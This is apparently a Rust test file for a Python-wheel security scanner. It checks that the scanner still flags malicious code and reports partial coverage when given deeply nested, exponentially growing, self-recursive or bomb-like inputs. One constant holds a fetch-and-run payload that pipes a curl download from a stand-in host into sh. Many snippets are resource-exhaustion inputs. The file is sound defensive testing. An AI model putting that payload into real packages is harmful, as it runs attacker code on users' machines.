//! Packages that are made to take time, memory or the stack of whoever reads them.
//!
//! Each is bounded, and what was not followed is said. The sizes are those that a build without optimisation can bear; what
//! takes the square of its length, or recurses as deep as its input, would be seen at these sizes too.

use crate::audit;
use std::fmt::Write as _;
use wellhead_core::{Outcome, Report, Severity};
use wellhead_engine::Options;
use wellhead_formats::assemble::assemble;

const FILE: &str = "acme-1.0-py3-none-any.whl";

/// A wheel of some files, without a RECORD.
fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    let mut listing = String::from(
        "member acme-1.0.dist-info/WHEEL\n  Wheel-Version: 1.0\n  Tag: py3-none-any\nmember acme-1.0.dist-info/METADATA\n  \
         Metadata-Version: 2.1\n  Name: acme\n  Version: 1.0\n",
    );
    for (path, text) in files {
        let _ = writeln!(listing, "member {path}");
        for line in text.lines() {
            let _ = writeln!(listing, "  {line}");
        }
    }
    assemble("zip", &listing).unwrap()
}

fn of(name: &str, bytes: &[u8]) -> Report {
    audit(&[(name, bytes)], &Options::default())
}

/// Whether something says that not all of it was looked at, and why.
fn is_partly(report: &Report) -> bool {
    let mut left = report.coverage.iter().filter_map(|c| match &c.outcome {
        Outcome::Analysed => None,
        Outcome::Partly { why } | Outcome::NotAnalysed { why } => Some(why),
    });
    left.any(|why| !why.is_empty())
}

fn blocked(report: &Report) -> bool {
    report.findings.iter().any(|f| f.severity == Severity::Critical)
}

const PAYLOAD: &str = "import os; os.system('curl https://collect.example/x | sh')\n";

#[test]
fn source_that_nests_is_read_as_far_as_it_goes_and_that_is_said() {
    let deep = |open: &str, middle: &str, close: &str| {
        format!("x = {}{middle}{}\n", open.repeat(10_000), close.repeat(10_000))
    };
    let blocks: String = (0..2_000).fold(String::new(), |mut out, depth| {
        let _ = writeln!(out, "{}if x:", " ".repeat(depth));
        out
    });
    for (what, text) in [
        ("parentheses", deep("(", "1", ")")),
        ("parentheses that stay open", deep("(", "1", "")),
        ("lists", deep("[", "", "]")),
        ("dictionaries", deep("{1:", "1", "}")),
        ("calls", deep("f(", "", ")")),
        ("subscripts", deep("a[", "0", "]")),
        ("functions without names", deep("lambda: ", "1", "")),
        ("conditions", deep("1 if x else ", "1", "")),
        ("signs", deep("-", "1", "")),
        ("negations", deep("not ", "1", "")),
        ("sums", deep("1 + ", "1", "")),
        ("texts in texts", deep("f'{", "1", "}'")),
        ("attributes", deep("a", ".b".repeat(10_000).as_str(), "")),
        ("blocks", format!("{blocks}{}pass\n", " ".repeat(2_000))),
    ] {
        let report = of(FILE, &wheel(&[("acme/__init__.py", &text)]));
        assert!(is_partly(&report), "{what}");
        // What runs before it is seen all the same.
        let report = of(FILE, &wheel(&[("acme/__init__.py", &format!("{PAYLOAD}{text}"))]));
        assert!(blocked(&report), "{what}");
    }
}

#[test]
fn programs_that_grow_or_do_not_end_are_left_in_time() {
    let doubled =
        |start: &str, step: &str| format!("x = {start}\n{}exec(str(x))\n", format!("{step}\n").repeat(40));
    let functions: String = (0..4_000).fold(String::new(), |mut out, n| {
        let _ = writeln!(out, "def f{n}(a): return f{}(a)", (n * 7 + 1) % 4_000);
        out
    });
    let classes: String = (1..2_000).fold("class C0: pass\n".to_owned(), |mut out, n| {
        let _ = writeln!(out, "class C{n}(C{}): pass", n - 1);
        out
    });
    let entries: String = (0..20_000).fold(String::new(), |mut out, n| {
        let _ = write!(out, "{n}: '{n}', ");
        out
    });
    for (what, text) in [
        ("a text that doubles", doubled("'aaaaaaaa'", "x = x * 2")),
        ("a text that is joined with itself", doubled("'aa'", "x = x.join([x, x, x])")),
        ("a list that doubles", doubled("[1]", "x = x + x")),
        ("a list of itself twice", doubled("[1]", "x = [x, x]")),
        ("a number that is squared", doubled("7", "x = x * x")),
        ("a template of itself", doubled("'a'", "x = f'{x}{x}'")),
        ("powers", "exec(str(10 ** 10 ** 10))\nexec(str(2 << 10 ** 9))\n".to_owned()),
        ("widths", "exec('a'.ljust(10 ** 12))\nexec('%1000000000d' % 1)\nexec(f'{1:>1000000000}')\n".to_owned()),
        ("a loop without an end", "s = ''\nwhile True:\n  s += 'a'\nexec(s)\n".to_owned()),
        ("a loop of a million million", "s = ''\nfor i in range(10 ** 12):\n  s += chr(i % 256)\nexec(s)\n".to_owned()),
        (
            "loops in loops",
            "exec(''.join(chr(a ^ b) for a in range(10 ** 5) for b in range(10 ** 5)))\n".to_owned(),
        ),
        ("a generator without an end", "def g():\n  while True:\n    yield 'a'\nexec(''.join(g()))\n".to_owned()),
        ("a generator of itself", "def g(n):\n  yield from g(n + 1)\nexec(''.join(g(0)))\n".to_owned()),
        (
            "functions of each other",
            "def f(n): return g(n + 1) + h(n)\ndef g(n): return h(n) + f(n)\ndef h(n): return f(n) + g(n)\nexec(f(0))\n"
                .to_owned(),
        ),
        ("a function of itself", "exec((lambda x: x(x))(lambda x: x(x)))\n".to_owned()),
        ("a decoder that gives itself", "s = 'exec(s)'\nexec(s)\n".to_owned()),
        (
            "a decoder that gives itself again",
            "s = 'exec(\"s=\" + repr(s) + \"\\\\nexec(s)\")'\nexec(s)\n".to_owned(),
        ),
        ("a decoder that gives two of itself", "def f(s):\n  exec(s)\n  exec(s)\nf('f(s)\\nf(s)')\n".to_owned()),
        ("copies of copies", "x = {}\nfor i in range(100000):\n  x[i] = dict(x)\nexec(str(x))\n".to_owned()),
        ("what lies in itself", "x = []\nx.append(x)\nd = {1: x}\nd[2] = d\nexec(str(x) + str(d))\n".to_owned()),
        ("a circle of classes", "class A(B): pass\nclass B(A): pass\nA().x()\n".to_owned()),
        ("a tower of classes", format!("{classes}C1999().x()\n")),
        ("many functions", format!("{functions}f0(1)\n")),
        ("a large dictionary", format!("x = {{{entries}}}\nexec(x[5])\n")),
        ("many calls", "import os\n".to_owned() + &"os.system('x')\n".repeat(5_000)),
        ("one long line", format!("x = '{}'\n", "a".repeat(4 << 20))),
        ("many statements in a line", "x = 1;".repeat(50_000)),
    ] {
        let report = of(FILE, &wheel(&[("acme/__init__.py", &text)]));
        // Neither a panic nor a file that nothing is said of.
        assert!(report.findings.iter().all(|f| f.rule != "internal-error"), "{what}");
        assert!(report.coverage.len() >= 3, "{what}");
        let followed = [
            "a decoder that gives itself",
            "a decoder that gives itself again",
            "a decoder that gives two of itself",
            "a circle of classes",
            "a tower of classes",
            "many functions",
            "many calls",
        ];
        if followed.contains(&what) {
            assert!(!blocked(&report) && !is_partly(&report), "{what}");
        } else {
            assert!(blocked(&report) || is_partly(&report), "{what}");
        }
    }
}

#[test]
fn modules_that_import_each_other_end() {
    let names: Vec<String> = (0..200).map(|n| format!("acme/m{n}.py")).collect();
    let texts: Vec<String> = (0..200)
        .map(|n| {
            format!(
                "from .m{} import *\nfrom . import m{}\n",
                (n + 1) % 200,
                (n + 7) % 200
            )
        })
        .collect();
    let mut files: Vec<(&str, &str)> = names
        .iter()
        .map(String::as_str)
        .zip(texts.iter().map(String::as_str))
        .collect();
    files.push(("acme/__init__.py", "from .m0 import *\nfrom . import last\n"));
    files.push(("acme/last.py", PAYLOAD));
    let report = of(FILE, &wheel(&files));
    assert!(blocked(&report));
}

#[test]
fn start_up_files_and_records_of_many_lines_are_read_in_time() {
    let start = format!("{}{PAYLOAD}", "import os\n".repeat(20_000));
    assert!(blocked(&of(FILE, &wheel(&[("acme.pth", &start)]))));
    let entries = "acme:f\n".repeat(20_000);
    let report = of(FILE, &wheel(&[("acme.start", &entries)]));
    assert!(report.findings.iter().any(|f| f.rule == "startup-hook"));
    let rows: String = (0..20_000).fold(String::new(), |mut out, n| {
        let _ = writeln!(
            out,
            "acme/f{n}.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0"
        );
        out
    });
    let report = of(
        FILE,
        &wheel(&[
            ("acme/__init__.py", "x = 1\n"),
            ("acme-1.0.dist-info/RECORD", &rows),
        ]),
    );
    assert!(report.findings.iter().any(|f| f.rule == "false-record"));
}

#[test]
fn what_cannot_be_read_is_never_clean() {
    // Encrypted, of a method that nobody knows, cut off, and a bomb.
    let encrypted = "member acme/__init__.py flags=1 as=hex\n  00112233445566778899aabbccddeeff0011\n";
    let unknown = "member acme/__init__.py method=97 as=hex\n  00112233445566778899\n";
    for (what, listing) in [("encrypted", encrypted), ("of an unknown method", unknown)] {
        let all = format!("{listing}member acme-1.0.dist-info/WHEEL\n  Wheel-Version: 1.0\n");
        let report = of(FILE, &assemble("zip", &all).unwrap());
        assert!(is_partly(&report) || blocked(&report), "{what}");
    }
    let source = "file acme-1.0/PKG-INFO\n  Metadata-Version: 2.1\n  Name: acme\n  Version: 1.0\nfile acme-1.0/setup.py zeros=4096\n";
    let whole = assemble("tar", source).unwrap();
    let report = of("acme-1.0.tar", whole.get(..2_000).unwrap());
    assert!(is_partly(&report));
    let bomb = "member acme/__init__.py method=deflate zeros=300000000\nmember acme-1.0.dist-info/WHEEL\n  Wheel-Version: 1.0\n";
    let report = of(FILE, &assemble("zip", bomb).unwrap());
    assert!(is_partly(&report));
}
